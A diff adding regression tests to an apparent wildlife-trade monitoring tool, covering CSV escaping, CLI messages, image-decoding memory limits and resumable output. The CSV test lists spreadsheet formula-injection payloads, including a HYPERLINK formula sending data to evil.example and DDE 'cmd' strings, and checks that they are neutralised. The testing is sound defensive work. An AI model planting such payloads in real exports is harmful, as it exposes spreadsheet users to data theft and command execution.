@@ -697,3 +697,176 @@ def test_beyond_the_queue_limit_a_classify_request_gets_503_with_retry_after(tmp
         assert raw(port, head, body)[0] == 200  # the place is free again
     finally:
         server.should_exit = True
+
+
+def test_csv_exports_never_start_a_formula(tmp_path):
+    # issue 28 item 11: the cases CSV wrote =HYPERLINK(...) and =cmd|... unescaped
+    import csv
+
+    from wildwatch.monitor.cases import CaseBook, Post, cases_text
+    from wildwatch.monitor.events import Sighting, sightings_text
+    from wildwatch.monitor.evidence import post_evidence
+
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1,1)", "\t=1+1", "\uff1dcmd|x"]
+    store = EventStore(tmp_path / "events.db")
+    book = CaseBook(store)
+    with store.transaction():
+        for i, text in enumerate(hostile):
+            book.add_post(Post(f"{text}#{i}", "feed:x", text, f"ivory for sale {text}", text, "m.example"),
+                          post_evidence(f"ivory tusks for sale, $3000 {text}", []), [], None)
+    rows = list(csv.DictReader(io.StringIO(cases_text(book.list(limit=100), "csv"))))
+    assert len(rows) == len(hostile)
+    for row in rows:
+        for column in ("post", "account", "link", "text"):
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\uff1d")), (column, row[column])
+    assert {r["link"] for r in rows} == {"'" + h for h in hostile}  # kept as text, one apostrophe in front
+    sightings = [Sighting(h, "rhino", 0.9, "2026-05-01T05:00:00+00:00", "2026-05-01T05:01:00+00:00", link=h,
+                          latitude=-1.29, longitude=-36.8) for h in hostile]
+    for row in csv.DictReader(io.StringIO(sightings_text(sightings, "csv"))):
+        assert row["source"].startswith("'") and row["link"].startswith("'") and row["latitude"] == "-1.29"
+    store.close()
+
+
+def test_small_things_a_new_user_meets_on_the_command_line(tmp_path):
+    # issue 28 item 16: no --version; an empty folder exited 0 silently; monitor /nonexistent left a
+    # database and a lock file behind; -q hid the progress entirely
+    import pty
+
+    from wildwatch import __version__
+
+    version = subprocess.run([WILDWATCH, "--version"], capture_output=True, text=True, timeout=60, check=False)
+    assert version.returncode == 0 and version.stdout.strip() == f"wildwatch {__version__}"
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    (empty / "notes.txt").write_text("no photos here")
+    proc = subprocess.run([WILDWATCH, "classify", str(empty)], capture_output=True, text=True, timeout=120, check=False)
+    assert proc.returncode == 2 and "no photos found in" in proc.stderr and "JPEG" in proc.stderr
+    proc = subprocess.run(monitor_cmd(tmp_path / "nonexistent", "--db", tmp_path / "events.db"), capture_output=True,
+                          text=True, timeout=120, check=False)
+    assert proc.returncode == 2 and "nonexistent" in proc.stderr
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty"]  # no events.db, no events.db.lock
+    photos = tmp_path / "photos"
+    photos.mkdir()
+    for i in range(3):
+        (photos / f"{i}.jpg").write_bytes(small_jpeg())
+    import fcntl
+    import termios
+
+    main, child = pty.openpty()  # stderr a terminal of 80 columns, as for a person at a shell
+    fcntl.ioctl(child, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
+    proc = subprocess.run([WILDWATCH, "classify", str(photos), "-q"], stdout=subprocess.PIPE, stderr=child,
+                          timeout=120, check=False)
+    os.close(child)
+    seen = b""
+    while True:
+        try:
+            chunk = os.read(main, 65536)
+        except OSError:
+            break
+        if not chunk:
+            break
+        seen += chunk
+    os.close(main)
+    assert proc.returncode == 0 and proc.stdout == b""  # no table ...
+    assert b"classifying: 3img" in seen and b"3 classified" in seen  # ... but progress and the summary
+
+
+MODE_IMAGES = {  # 39.9 Mpx (the service's limit) in the modes that once took 1 to 1.3 GB to decode
+    "rgba.webp": ("RGBA", (90, 140, 70, 128), "WEBP", {"lossless": True, "quality": 0, "method": 0}),
+    "float.tiff": ("F", 3000, "TIFF", {"compression": "tiff_deflate"}),
+    "sixteen.png": ("I;16", 3000, "PNG", {"compress_level": 1}),
+}
+
+
+@pytest.mark.parametrize("name", sorted(MODE_IMAGES))
+def test_decoding_any_pixel_mode_at_the_limit_stays_under_a_gigabyte(tmp_path, name):
+    # issue 28 item 7: one 1.6 KB RGBA WebP at the 40 Mpx limit peaked at 1.28 GB, an F-mode TIFF at 1.17 GB
+    mode, colour, fmt, options = MODE_IMAGES[name]
+    path = tmp_path / name
+    Image.new(mode, (6300, 6330), colour).save(path, format=fmt, **options)
+    code = ("import resource, sys; from pathlib import Path\n"
+            "from wildwatch.data.loading import load_photo_bytes\n"
+            "data = Path(sys.argv[1]).read_bytes()\n"
+            "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+            "img, _ = load_photo_bytes(data, 'upload', 40_000_000, (256, 256))\n"
+            "print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024, *img.size, img.mode)")
+    proc = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=300,
+                          check=False)
+    assert proc.returncode == 0, proc.stderr
+    extra_mb, w, h, out_mode = proc.stdout.split()
+    assert out_mode == "RGB" and int(w) * int(h) <= 4_000_000  # reduced as it was decoded
+    assert int(extra_mb) < 800, f"decoding took {extra_mb} MB"
+
+
+def test_one_image_limit_with_one_message_and_large_jpegs_reduced_while_decoding(tmp_path):
+    # issue 28 item 15: a panorama met three limits (64 Mpx, "decompression bomb ... 89478485", "178956970")
+    from wildwatch.data.loading import DEFAULT_MAX_PIXELS, ImageLoadError, load_image
+
+    pano = tmp_path / "panorama.jpg"
+    Image.new("L", (16000, 12000), 120).save(pano, quality=70)  # 192 Mpx: beyond Pillow's own bomb check
+    img = load_image(pano, draft_size=(256, 256))
+    assert img.mode == "RGB" and img.size == (2000, 1500)  # read at 1/8 scale
+    wide = tmp_path / "wide.png"
+    Image.new("L", (10000, 10000), 120).save(wide, compress_level=1)  # 100 Mpx, and not a JPEG: refused
+    with pytest.raises(ImageLoadError) as info:
+        load_image(wide)
+    message = str(info.value)
+    assert f"{DEFAULT_MAX_PIXELS:,}" in message and "10000x10000" in message
+    assert not any(x in message for x in ("89478485", "178956970", "89,478,485", "178,956,970", "bomb"))
+
+
+def test_an_output_is_never_replaced_silently_and_a_json_output_survives_ctrl_c(tmp_path):
+    # issue 28 item 14: --output replaced 1,000 rows by 1; a .json output could not survive Ctrl-C nor resume
+    from wildwatch.inference.batch import ClassifyInterrupted, ClassifyOptions, classify_files
+    from wildwatch.inference.writers import partial_path
+
+    photos = tmp_path / "photos"
+    photos.mkdir()
+    for i in range(8):
+        Image.new("RGB", (64, 48), (30 * i, 100, 60)).save(photos / f"{i}.jpg")
+    out = tmp_path / "rows.csv"
+    subprocess.run([WILDWATCH, "classify", str(photos), "--output", str(out), "-q"], check=True, capture_output=True,
+                   timeout=300)
+    before = out.read_bytes()
+    proc = subprocess.run([WILDWATCH, "classify", str(photos / "0.jpg"), "--output", str(out), "-q"],
+                          capture_output=True, text=True, timeout=300, check=False)
+    assert proc.returncode == 2 and "--resume" in proc.stderr and "--overwrite" in proc.stderr
+    assert out.read_bytes() == before
+    proc = subprocess.run([WILDWATCH, "classify", str(photos / "0.jpg"), "--output", str(out), "-q", "--overwrite"],
+                          capture_output=True, text=True, timeout=300, check=False)
+    assert proc.returncode == 0 and len(out.read_text().splitlines()) == 2
+    doc = tmp_path / "rows.json"
+    seen = []
+
+    def ctrl_c_after_five(p):
+        seen.append(p.source)
+        if len(seen) == 5:
+            raise KeyboardInterrupt
+
+    with pytest.raises(ClassifyInterrupted) as info:
+        classify_files(ClassifyOptions(paths=[photos], output=doc), ctrl_c_after_five)
+    assert info.value.rows == 5 and "5 rows written" in info.value.line() and "--resume" in info.value.line()
+    assert not doc.exists() and len(partial_path(doc).read_text().splitlines()) == 5
+    summary = classify_files(ClassifyOptions(paths=[photos], output=doc, resume=True))
+    assert summary.already_done == 5 and summary.files == 3
+    rows = json.loads(doc.read_text())
+    assert sorted(Path(r["source"]).name for r in rows) == sorted(p.name for p in photos.iterdir())
+    assert not partial_path(doc).exists()
+    # the command line: Ctrl-C says how many rows are kept and how to go on, and exits 130
+    many = tmp_path / "many"
+    many.mkdir()
+    for i in range(400):
+        Image.new("RGB", (64, 48), (i % 250, 90, 60)).save(many / f"{i:03d}.jpg")
+    slow = tmp_path / "slow.jsonl"
+    proc = subprocess.Popen([WILDWATCH, "classify", str(many), "--output", str(slow), "--batch-size", "1", "-q"],
+                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    for _ in range(600):
+        if slow.exists() and slow.read_text().count("\n") >= 2:
+            break
+        time.sleep(0.05)
+    proc.send_signal(2)  # SIGINT, as Ctrl-C sends
+    err = proc.communicate(timeout=60)[1]
+    kept = slow.read_text().count("\n")
+    assert proc.returncode == 130 and f"{kept} rows written to {slow}; rerun with --resume" in err, err
+    assert "Traceback" not in err
